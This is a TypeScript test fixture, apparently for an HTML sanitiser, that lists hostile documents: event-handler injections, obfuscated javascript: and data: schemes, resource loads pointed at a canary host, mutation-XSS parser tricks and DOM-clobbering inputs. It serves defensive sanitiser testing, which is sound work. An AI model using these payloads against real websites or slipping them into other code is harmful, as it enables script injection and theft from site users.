/**
 * Server documents with active content: each sets `top.executed` or sends a request to the canary host if the sanitiser misses it.
 * Created for this project (failures B1, B9).
 */

/** A host that must get no request. */
export const CANARY_HOST = 'canary.example';

const ACT = 'top.executed=1';
const CANARY = `https://${CANARY_HOST}`;

const HANDLERS = [
  ...[
    'img src=x onerror',
    'body onload',
    'svg onload',
    'details open ontoggle',
    'input autofocus onfocus',
  ],
  ...[
    'video src=x onerror',
    'audio src=x onerror',
    'marquee onstart',
    'style onload',
    'iframe onload',
  ],
  ...[
    'object data=x onerror',
    'p onpointerenter',
    'a href=https://a.example onclick',
    'div onanimationstart',
  ],
  ...[
    'textarea autofocus onfocus',
    'select autofocus onfocus',
    'x-y onclick',
    'link rel=stylesheet onload',
  ],
].map((tag) => `<${tag}="${ACT}">x</${tag.split(' ')[0]}>`);

const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '&#1;javascript:',
    'java&#9;script:',
    'java&#10;script:',
  ],
  ...[
    '&#x6A;avascript:',
    'javascript&colon;',
    'jav\u0000ascript:',
    'view-source:javascript:',
    'vbscript:',
  ],
  ...[
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD4=,',
    'blob:',
    'filesystem:',
    'feed:javascript:',
  ],
  ...[
    '\u00a0javascript:',
    'javascript://%0a',
    'https:javascript:',
    'intent://x#Intent;',
    'file:///',
  ],
].flatMap((scheme) => [`<a href="${scheme}${ACT}">x</a>`, `<img src="${scheme}${ACT}" alt="x">`]);

const ASKING = [
  `<img src="${CANARY}/1">`,
  `<img src="//${CANARY_HOST}/2">`,
  `<img src="\\\\${CANARY_HOST}\\3">`,
  `<img src="/\\${CANARY_HOST}/4">`,
  `<img src="https:${CANARY_HOST}/5">`,
  `<img src="/x.png" srcset="${CANARY}/6 1x">`,
  `<picture><source srcset="${CANARY}/7"><img src="${CANARY}/8"></picture>`,
  `<video poster="${CANARY}/9" src="${CANARY}/10" autoplay></video>`,
  `<audio src="${CANARY}/11" autoplay></audio>`,
  `<body background="${CANARY}/12"><table background="${CANARY}/13"><tr><td background="${CANARY}/14">x`,
  `<link rel="stylesheet" href="${CANARY}/15"><link rel="prefetch" href="${CANARY}/16">`,
  `<style>@import "${CANARY}/17"; * { background: url(${CANARY}/18) }</style>x`,
  `<p style="background:url(${CANARY}/19)">x</p>`,
  `<p style="--a:url(${CANARY}/20);background:var(--a)">x</p>`,
  `<iframe src="${CANARY}/21" srcdoc="<img src=${CANARY}/22>"></iframe>`,
  `<object data="${CANARY}/23"></object><embed src="${CANARY}/24">`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}/25">`,
  `<base href="${CANARY}/"><img src="26">`,
  `<svg><image href="${CANARY}/27"/><use href="${CANARY}/28#x"/></svg>`,
  `<input type="image" src="${CANARY}/29"><frameset><frame src="${CANARY}/30">`,
  `<a href="${CANARY}/31" ping="${CANARY}/32">x</a>`,
  `<form action="${CANARY}/33"><input autofocus><button>x</button></form>`,
];

const MUTATING = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${ACT}>`,
  `<svg><style><img src=x onerror=${ACT}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${ACT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<title><p title="</title><img src=x onerror=${ACT}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${ACT}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ACT}>">`,
  `<plaintext><img src=x onerror=${ACT}>`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<!--!> --!><img src=x onerror=${ACT}>`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ACT}>`,
  `<template><img src=x onerror=${ACT}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${ACT}></template></div>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ACT}>`,
  `<svg><foreignObject><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ACT}&gt;">`,
  `<select><template><img src=x onerror=${ACT}></template></select>`,
  `<table><td><svg><desc><table><img src=x onerror=${ACT}>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script>${ACT}</script><script src="${CANARY}/40"></script>`,
  `<svg><script>${ACT}</script><a xlink:href="javascript:${ACT}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s><set attributeName=href to="javascript:${ACT}"/>`,
  `<math href="javascript:${ACT}">x</math><maction actiontype="statusline#" xlink:href="javascript:${ACT}">x`,
  `<p is="x-y" onclick=${ACT}>x</p><button form=x formaction="javascript:${ACT}">x</button>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${ACT}>`,
];

const CLOBBERING = [
  '<a id=location href="https://a.example">x</a><a id=location name=href>y</a>',
  '<img name=cookie><img id=cookie>',
  '<form id=config><input name=attributes><input name=parentNode></form>',
  '<img id=trustedTypes><img id=trustedTypes name=createPolicy>',
  '<iframe name=localStorage></iframe><img name=documentElement><img name=body>',
  '<div id=root>another root</div><script type="application/json" id=texts>{}</script>',
  '<object id=plenumShell></object><a id=plenumShell>x</a>',
  '<img name=getElementById><img name=createElement><img name=querySelector>',
];

/** All of them, each as a separate document. */
export const HOSTILE_DOCUMENTS: readonly string[] = [
  ...HANDLERS,
  ...SCHEMES,
  ...ASKING,
  ...MUTATING,
  ...CLOBBERING,
];
